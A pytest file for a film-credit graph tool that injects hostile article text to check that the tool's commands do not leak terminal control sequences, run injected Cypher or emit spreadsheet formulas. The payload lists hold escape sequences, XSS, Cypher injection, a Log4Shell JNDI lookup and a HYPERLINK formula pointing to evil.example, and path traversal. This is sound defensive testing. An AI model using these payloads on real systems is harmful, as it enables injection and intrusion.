"""Articles as weapons: nothing in them steers a terminal, runs in a page or a sheet, or changes a statement."""

from __future__ import annotations

import json
import re
import time
from pathlib import Path

import pytest
from lxml import etree

from graph.model import Article, Credit, EntityType, Graph, Mention, Reading, Relation, Span
from graph.projection import build
from graph.settings import Settings
from graph.workspace import Reader, Workspace
from tests.every_command import Setting, every_command, run_on_a_terminal

WEAPONS = (
    "\x1b]2;pwned\x07",
    "\x1b[66m\x1b[2J",
    "\x9b66m",
    "\u202egnp.exe",
    "\u2066hidden\u2069",
    "\x08\x08\x08",
    "\rover",
    "\x00nul",
    "\u2028line",
)
RAW = re.compile(
    "\x1b\\]|\x1b\\[66m|\x1b\\[2J|[\x00\x07\x08\x0b\x0c\r\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029\ufeff]"
)
"""What must never be sent: the escapes of the weapons, and every control and direction character but newline and tab.

Escapes of our own (colours, a progress bar) are none of these."""
REDRAW = "\r\x1b[2K"
"""How the progress bar, which a slow machine shows, draws itself anew."""

WORDS = (
    "<script>alert(1)</script>",
    "'}) DETACH DELETE n //",
    '"` RETURN 1; MATCH (n) SET n.name = "x',
    '=HYPERLINK("http://evil.example")',
    "@SUM(A1)",
    "${jndi:ldap://evil.example/a}",
    "../../etc/passwd",
    "[link](javascript:alert(1))",
)


def hostile_articles() -> list[Article]:
    """An article for each weapon, with it in every field; keys and texts differ."""
    return [
        Article(
            f"/hostile/{number}{weapon}",
            f"Ann {weapon} Arm directs Film {weapon} Number for Company {weapon} One. Story {number}.",
            title=weapon if weapon in WORDS else f"Title {weapon} {number}",
            url=f"https://example.org/{number}",
            publisher=f"Paper {weapon}",
            published="2025-01-02",
            stem=f"stem{weapon}{number}",
        )
        for number, weapon in enumerate(WEAPONS + WORDS)
    ]


def read(text: str, title: str) -> Reading:
    """A reader that believes every name as it stands, so that nothing is cleaned on the way in."""
    names = re.search(r"(Ann .*Arm) directs (Film .*Number) for (Company .*One)\.", text, re.DOTALL)
    assert names is not None
    person = Mention(EntityType.PERSON, names[1])
    film, company = Mention(EntityType.FILM, names[2]), Mention(EntityType.COMPANY, names[3])
    star, span = Mention(EntityType.PERSON, "Star Common"), Span(0, len(text))
    return Reading(
        (
            Credit(person, Relation.DIRECTED, film, span, detail=title),
            Credit(company, Relation.PRODUCED, film, span),
            Credit(star, Relation.ACTED_IN, film, span),
        ),
        reader="hostile 1",
        note=f"a note {title}",
    )


@pytest.fixture(scope="module")
def setting(tmp_path_factory: pytest.TempPathFactory) -> Setting:
    folder = tmp_path_factory.mktemp("hostile")
    workspace = Workspace(Settings(folder / "workspace"))
    list(workspace.add(hostile_articles(), Reader("hostile 1", read)))
    source, output = folder / "articles", folder / "output"
    source.mkdir()
    output.mkdir()
    for number, article in enumerate(hostile_articles()):
        text = article.text.replace("\x00", "")
        (source / f"{number}.md").write_text(f"---\ntitle: {article.title}\n---\n{text}\n", "utf-8", newline="")
    with workspace.store() as store:
        people = [e for e in store.snapshot().entities if e.type is EntityType.PERSON and e.name.startswith("Ann")]
        film = next(e for e in store.snapshot().entities if e.type is EntityType.FILM)
        company = next(e for e in store.snapshot().entities if e.type is EntityType.COMPANY)
    return Setting(folder / "workspace", people[0].id, people[-1].id, film.id, company.id, source, output)


def test_no_command_sends_a_control_character_of_an_article_to_a_terminal(setting: Setting) -> None:
    told = 0
    for arguments in every_command(setting):
        ran = run_on_a_terminal(arguments)
        where = f"reelgraph {' '.join(arguments[:3])!r}"
        assert ran.code in (0, 1, 3), f"{where}: {ran.err}"
        for stream in (ran.out.replace(REDRAW, ""), ran.err.replace(REDRAW, "")):
            found = RAW.search(stream)
            told += stream.count("pwned")
            assert not found, f"{where} sent {found[0]!r} in {stream[max(0, found.start() - 60) : found.end() + 20]!r}"
    assert told > 20, "the weapons were not printed at all"


def test_what_is_written_for_other_tools_is_well_formed(setting: Setting) -> None:
    for arguments in every_command(setting):
        if arguments[0] == "export":
            assert run_on_a_terminal(arguments).code == 0
    for name in ("all.graphml", "all.gexf"):
        assert len(etree.parse(setting.output / name).getroot()) > 0
    assert json.loads((setting.output / "all.json").read_text("utf-8"))


def test_names_that_are_statements_change_nothing_in_cypher(setting: Setting) -> None:
    before = _graph(setting)
    for name in (*WORDS, *WEAPONS):
        where = ["--workspace", str(setting.workspace)]
        for arguments in (
            ["cypher", "MATCH (n) WHERE n.name CONTAINS $name RETURN count(n)", "--param", f"name={name}", *where],
            ["show", f"Ann {name} Arm", *where],
            ["find", name, *where],
        ):
            ran = run_on_a_terminal(arguments)
            assert ran.code in (0, 1, 2), f"{arguments}: {ran.err}"
            assert "mistake in reelgraph itself" not in ran.err
            assert not RAW.search((ran.out + ran.err).replace(REDRAW, "")), f"{arguments}"
    assert _graph(setting) == before


def _graph(setting: Setting) -> Graph:
    with Workspace(Settings(setting.workspace)).ledger() as ledger:
        return build(ledger)


def test_a_sheet_runs_nothing_that_an_article_says(setting: Setting) -> None:
    """Documented in docs/security.md: cells that a spreadsheet would take for a formula begin with an apostrophe."""
    ran = run_on_a_terminal(["articles", "--format", "csv", "--workspace", str(setting.workspace)])
    cells = [cell.strip('"') for line in ran.out.splitlines() for cell in line.split(",")]
    assert [cell for cell in cells if "HYPERLINK" in cell]
    assert not [cell for cell in cells if cell.startswith(("=", "@", "+", "-"))]


@pytest.mark.torture
@pytest.mark.timeout(300)
def test_names_of_a_megabyte_are_kept_shown_and_found_in_bounded_time(tmp_path: Path) -> None:
    name = "word " * 200_000
    film = Mention(EntityType.FILM, f"{name}film")

    def believe(text: str, _title: str) -> Reading:
        credits = (Mention(EntityType.PERSON, n) for n in (name.strip(), "Ann Lee"))
        return Reading(tuple(Credit(c, Relation.ACTED_IN, film, Span(0, len(text))) for c in credits), reader="big 1")

    start = time.process_time()
    list(Workspace(Settings(tmp_path / "w")).add([Article("/big", f"{name} and more")], Reader("big 1", believe)))
    for arguments in (["show", "Ann Lee"], ["find", "word"], ["hubs"], ["path", "Ann Lee", "nobody"], ["doctor"]):
        ran = run_on_a_terminal([*arguments, "--workspace", str(tmp_path / "w")])
        assert ran.code in (0, 1), ran.err[:500]
    assert time.process_time() - start < 30
